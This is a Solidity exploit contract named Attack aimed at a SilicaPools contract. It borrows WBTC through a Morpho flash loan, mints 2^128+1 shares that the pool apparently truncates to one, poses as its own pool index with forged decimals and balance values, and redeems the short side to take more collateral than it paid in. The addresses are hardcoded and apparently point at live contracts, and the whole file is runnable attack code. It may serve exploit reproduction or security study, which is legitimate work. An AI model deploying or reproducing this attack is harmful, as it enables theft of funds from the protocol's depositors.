// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "../Erc20.sol";

struct PoolParams {
    uint128 floor;
    uint128 cap;
    address index;
    uint48 start;
    uint48 end;
    address payoutToken;
}

interface SilicaPools {
    function collateralizedMint(
        PoolParams calldata pool,
        bytes32 orderHash,
        uint256 shares,
        address longRecipient,
        address shortRecipient
    ) external;
    function safeTransferFrom(address from, address to, uint256 id, uint256 amount, bytes calldata data) external;
    function startPool(PoolParams calldata pool) external;
    function endPool(PoolParams calldata pool) external;
    function redeemShort(PoolParams calldata pool) external;
}

interface Morpho {
    function flashLoan(address token, uint256 assets, bytes calldata data) external;
}

/// Mints 2^128 + 1 shares, which the pool records as one, and redeems two of them for the whole collateral each.
/// It is the pool's index itself.
contract Attack {
    SilicaPools constant POOLS = SilicaPools(0xf3F84cE038442aE4c4dCB6A8Ca8baCd7F28c9bDe);
    Morpho constant MORPHO = Morpho(0xBBBBBbbBBb9cC5e90e3b3Af64bdAF62C37EEFFCb);
    Erc20 constant WBTC = Erc20(0x2260FAC5E5542a773Aa44fBCfeDf7C193bc2C599);
    uint256 constant LOAN = 10e8;
    // What the pool lacks to pay twice the collateral of the mint.
    uint256 constant TOP_UP = 56_125_794;

    uint256 private lastId;

    function attack() external {
        WBTC.approve(address(POOLS), type(uint256).max);
        WBTC.approve(address(MORPHO), type(uint256).max);
        MORPHO.flashLoan(address(WBTC), LOAN, "");
    }

    function onMorphoFlashLoan(uint256, bytes calldata) external {
        uint48 moment = uint48(block.timestamp);
        PoolParams memory pool = PoolParams(41, 46, address(this), moment, moment, address(WBTC));
        WBTC.transfer(address(POOLS), TOP_UP);
        POOLS.collateralizedMint(pool, 0, 2 ** 128 + 1, address(this), address(this));
        // The short token is minted last.
        POOLS.safeTransferFrom(address(this), address(1), lastId, 2 ** 128 - 1, "");
        POOLS.startPool(pool);
        POOLS.endPool(pool);
        POOLS.redeemShort(pool);
    }

    function onERC1155Received(address, address, uint256 id, uint256, bytes calldata) external returns (bytes4) {
        lastId = id;
        return this.onERC1155Received.selector;
    }

    /* INDEX */

    function decimals() external pure returns (uint256) {
        return 31;
    }

    function shares() external pure returns (uint256) {
        return 1;
    }

    function balance() external pure returns (uint256) {
        return 0;
    }
}
